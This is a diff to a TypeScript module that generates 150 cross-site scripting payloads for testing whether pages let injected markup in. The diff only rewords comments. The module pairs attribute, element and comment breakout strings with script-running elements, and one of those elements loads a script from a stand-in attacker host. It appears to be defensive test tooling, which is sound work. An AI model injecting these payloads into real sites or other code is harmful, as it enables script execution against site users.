@@ -1,12 +1,12 @@
-/** What every payload's element carries. A page that holds it as an attribute has let the payload in. */
+/** An attribute of every payload's element. A page whose markup has this attribute has let the payload in. */
 export const mark = "data-let-in";
 
 const run = "window.letIn=1";
 
-/** Ways to leave the place that a text was meant for: attributes, raw text, comments. */
+/** Ways to break out of an attribute, an element or a comment. */
 const exits = ["", '">', "' >", "</script>", "</title></textarea></style>", "-->]]>"];
 
-/** Elements that would run a script, load one, or change where the page leads. */
+/** Elements that would run a script, load something, or change where the page leads. */
 const carriers = [
   `<script ${mark}>${run}</script>`,
   `<script ${mark} src=//evil.example/x.js></script>`,
@@ -35,7 +35,7 @@ const carriers = [
   `<template ${mark} shadowrootmode=open><img src=x onerror=${run}></template>`,
 ];
 
-/** 150 payloads. */
+/** All combinations: 150 payloads. */
 export const markupPayloads: readonly string[] = exits.flatMap((exit) =>
   carriers.map((carrier) => exit + carrier),
 );
